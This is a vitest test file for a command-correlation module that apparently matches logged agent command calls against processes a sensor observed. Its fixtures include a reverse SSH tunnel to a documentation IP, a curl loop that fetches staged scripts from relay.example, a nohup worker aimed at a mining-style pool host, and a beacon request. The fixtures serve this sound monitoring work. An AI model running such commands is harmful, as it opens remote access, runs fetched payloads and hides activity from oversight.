import { expect, it } from 'vitest';
import type { Call } from '../../../src/correlate/episodes/call.ts';
import {
  containsCommand,
  distinctive,
  isCommon,
  mayRun,
  namesProgram,
  sameCommand,
  tellsArguments,
} from '../../../src/correlate/processes/exec-text.ts';
import type { Exec } from '../../../src/correlate/processes/process.ts';

it.each([
  ['python3 run.py', '/usr/bin/python3.12', true],
  ['python3.11 run.py', 'python3', true],
  ['nc -z host 1', 'nc', true],
  ['ls; gcc-12 x.c', '/usr/bin/gcc', true],
  ['python3 run.py', 'curl', false],
  ['rsync3x a b', 'rsync', false],
  ['make probe', '12', false],
] as const)('of a program whose arguments are not told: %j may have run %s: %j', (command, text, expected) => {
  expect(mayRun(command, { args: undefined, text })).toBe(expected);
});

it('says of a program whose arguments are told that it is another command', () => {
  expect(mayRun('curl -s a', { args: ['curl', '-s', 'b'], text: 'curl -s b' })).toBe(false);
  expect(mayRun('curl -s a', undefined)).toBe(true);
});

it.each([
  [{ args: ['/usr/bin/nc', '', '-z', 'h'], text: '' }, ['nc', '-z', 'h'], true],
  [{ args: undefined, text: '/bin/ls -l' }, ['ls', '-l'], true],
  [{ args: undefined, text: 'ls' }, ['ls'], false],
  [{ args: ['ls'], text: 'ls' }, ['ls'], true],
  [{ args: ['/bin/'], text: '' }, undefined, true],
])('of %j a shell would have been given %j, arguments told: %j', (program, words, tells) => {
  expect(distinctive(program)).toEqual(words);
  expect(tellsArguments(program)).toBe(tells);
});

it('of nothing run nothing is distinctive', () => {
  expect(distinctive(undefined)).toBe(undefined);
});

it.each([
  [['ls'], true],
  [['python3', '-c'], true],
  [['a', '-l', 'x'], true],
  [['a', '-la', 'x'], false],
  [['curl', 'http'], false],
])('%j are words that many commands have: %j', (words, expected) => {
  expect(isCommon(words)).toBe(expected);
});

const LONG = 'for i in $(seq 9); do curl -s "http://x.example/$i" -o out; done';

const TUNNEL = 'ops@203.0.113.33';

it.each([
  ['cd /x && nc -z h 1', ['nc', '-z', 'h'], true],
  ['nc h -z', ['nc', '-z', 'h'], false],
  ['python3 x-y', ['python3', '-'], false],
  ['python3 - <<E', ['python3', '-'], true],
  ['anc -z', ['nc', '-z'], false],
  ['nc2 -z', ['nc', '-z'], false],
  ['echo nc2 && nc -z', ['nc', '-z'], true],
  ['nc x nc', ['nc', 'nc'], true],
  ['nc x', ['nc', 'nc'], false],
  [LONG, ['curl', '-s', 'http://x.example/1', '-o'], true],
  [LONG, ['wget', '-s', 'http://x.example/1'], false],
  [LONG, ['curl', '-s', 'http://x.example/1', '-x'], false],
  [LONG, ['curl', '-s', '12 characters'.slice(0, 12)], false],
  [LONG, ['curl', '-s', '13 characters'], false],
  [LONG, ['curl', '13 characters'], false],
  ['ssh -N -f -R 2222:localhost:22 ops@203.0.113.209', ['ssh', '-N', '-f', '-R', '2222:localhost:22', TUNNEL], false],
  [`ssh -N -f -R 2222:localhost:22 ops@$RELAY`, ['ssh', '-N', '-f', '-R', '2222:localhost:22', TUNNEL], true],
  ['ssh -N -f -R 2222:localhost:22 ops@203.0.1', ['ssh', '-N', '-f', '-R', '2222:localhost:22', TUNNEL], true],
  ['ssh -N -f -R 2222:localhost:22 ops@203.0.2', ['ssh', '-N', '-f', '-R', '2222:localhost:22', TUNNEL], false],
  ['ssh -N -f -R 2222:localhost:22 203.0.113.3', ['ssh', '-N', '-f', '-R', '2222:localhost:22', TUNNEL], false],
  [LONG.slice(0, 40), ['for', 'i', 'curl-seq-i-for'], false],
  [LONG.slice(0, 41), ['for', 'i', 'curl-seq-i-for'], true],
])('%j contains %j: %j', (text, words, expected) => {
  expect(containsCommand(text, words)).toBe(expected);
});

const CUT = 'python3 train.py --x';

it.each<[string, Partial<Exec>, Partial<Call>, boolean]>([
  ['the script of a shell', { args: ['sh', '-c', 'ls  -l\n'] }, { command: ' ls -l' }, true],
  ['its own words', { text: 'ls -l' }, { command: 'ls -l' }, true],
  ['the shell itself', { args: ['sh', '-c', 'ls'], text: 'sh -c ls' }, { command: 'sh -c ls' }, true],
  ['another', { text: 'ls -l' }, { command: 'ls -a' }, false],
  ['none', { text: 'ls' }, {}, false],
  ['one cut by the sensor', { text: CUT }, { command: `${CUT} --seed 1` }, true],
  ['one cut by the trace', { text: `${CUT} --seed 1` }, { command: CUT }, true],
  ['one with a mark of the cut', { text: `${CUT} --seed 1` }, { command: `${CUT} ...` }, true],
  ['too short to say', { text: `${CUT} --seed 1` }, { command: CUT.slice(0, 19) }, false],
  ['shorter, and cut by its own word', { text: CUT }, { command: CUT.slice(0, 10), truncated: true }, true],
  ['too short for that', { text: CUT }, { command: CUT.slice(0, 7), truncated: true }, false],
  ['no beginning', { text: `x ${CUT} --seed 1` }, { command: CUT }, false],
])('an exec is the call: %s', (_, exec, call, expected) => {
  expect(sameCommand({ text: '', args: undefined, ...exec } as Exec, { truncated: false, ...call } as Call)).toBe(
    expected,
  );
});

const SCRIPT = "bash -c 'for i in 1 2; do curl -s http://relay.example/stage$i.sh; done'";

it.each([
  [SCRIPT, ['curl', '-s', 'http://relay.example/stage2.sh'], true],
  [SCRIPT, ['bash', '-c', 'for i in 1 2; do curl -s http://relay.example/stage$i.sh; done'], true],
  [SCRIPT, ['bash', '-c', 'nohup python3 .cache/worker pool.harbor.test 3333'], false],
  [SCRIPT, ['curl', '-s', 'http://198.51.100.77/beacon'], false],
] as const)('of the command %s a shell may have run %j: %j', (text, words, expected) => {
  expect(containsCommand(text, words)).toBe(expected);
});

it.each([
  ['nohup ssh -N relay', ['ssh', '/usr/bin/ssh'], true],
  ['python3 run.py', ['python3.11'], true],
  ['./a-long-name-of-a-tool x', ['a-long-name-of-'], true],
  ['nohup ssh -N relay', ['nc'], false],
] as const)('of the command %s, a program called %j is named: %j', (command, names, expected) => {
  expect(namesProgram(command, names)).toBe(expected);
});
